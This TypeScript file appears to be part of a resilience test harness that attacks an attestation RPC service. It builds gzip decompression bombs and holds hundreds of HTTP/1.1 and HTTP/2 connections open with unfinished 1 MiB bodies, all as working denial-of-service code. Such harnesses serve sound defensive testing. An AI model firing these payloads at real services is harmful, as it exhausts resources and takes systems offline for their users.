// Bodies of a stranger: small ones that inflate to many values, and large ones that never end.
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Attack, Target } from '../attack.js';
import { dropAnswers, openSession, openSockets, writeToAll } from '../attack-sockets.js';

const RPC = '/attestation.v1.AttestationService/CreateAttestation';
const NEARLY_MIB = 1024 * 1024 - 100;

export const attacks: Attack[] = [
  { name: '9: 1 KB of gzip without a key, Connect', run: (target) => inflate(target, 'connect', 1) },
  { name: '9: 65 KB of gzip without a key, Connect', run: (target) => inflate(target, 'connect', 60) },
  { name: '9: 65 KB of gzip without a key, gRPC-Web', run: (target) => inflate(target, 'grpc-web', 60) },
  {
    name: '9: 65 KB of gzip with a key, Connect',
    run: async (target) => inflate(target, 'connect', 60, await target.makeKey()),
  },
  { name: '10: 500 bodies of 1 MiB without a key, HTTP/1.1', run: holdBodies },
  { name: '10: 500 bodies of 1 MiB without a key, HTTP/2', run: (target) => holdStreams(target, {}) },
  {
    name: '10: 500 bodies of 1 MiB with a key, HTTP/2',
    run: async (target) => holdStreams(target, { authorization: `Bearer ${await target.makeKey()}` }),
  },
];

/** A message of a MiB that is hardly anything but empty objects. */
function manyValues(): Buffer {
  return Buffer.from(`{"metadata":{"a":[{}${',{}'.repeat(349_000)}]}}`);
}

async function inflate(
  target: Target,
  form: 'connect' | 'grpc-web',
  count: number,
  key?: string,
): Promise<number> {
  const packed = gzipSync(manyValues(), { level: 9 });
  const head = Buffer.alloc(5);
  head[0] = 1;
  head.writeUInt32BE(packed.length, 1);
  const body = form === 'connect' ? packed : Buffer.concat([head, packed]);
  const lines = [
    `POST ${RPC} HTTP/1.1`,
    'host: a',
    'connection: close',
    `content-length: ${body.length}`,
    ...(form === 'connect'
      ? ['content-type: application/json', 'content-encoding: gzip']
      : ['content-type: application/grpc-web+json', 'grpc-encoding: gzip']),
    ...(key === undefined ? [] : [`authorization: Bearer ${key}`]),
  ];
  const sockets = await openSockets(target, count);
  dropAnswers(sockets);
  return writeToAll(sockets, Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`), body]));
}

async function holdBodies(target: Target): Promise<number> {
  const head = `POST ${RPC} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${NEARLY_MIB + 1}\r\n\r\n`;
  const sockets = await openSockets(target, 500);
  dropAnswers(sockets);
  return writeToAll(sockets, Buffer.concat([Buffer.from(head), Buffer.alloc(NEARLY_MIB, ' ')]));
}

async function holdStreams(target: Target, headers: Record<string, string>): Promise<number> {
  const body = Buffer.alloc(NEARLY_MIB, ' ');
  const sessions = [await openSession(target), await openSession(target)];
  for (const { session } of sessions) {
    for (let i = 0; i < 250; i++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': RPC,
        'content-type': 'application/json',
        ...headers,
      });
      stream.on('error', () => {}).resume();
      stream.write(body);
    }
  }
  const sent = () => sessions.reduce((sum, { socket }) => sum + socket.bytesWritten, 0);
  let bytes = -1;
  while (bytes !== sent()) {
    bytes = sent();
    await delay(2_000);
  }
  return bytes;
}
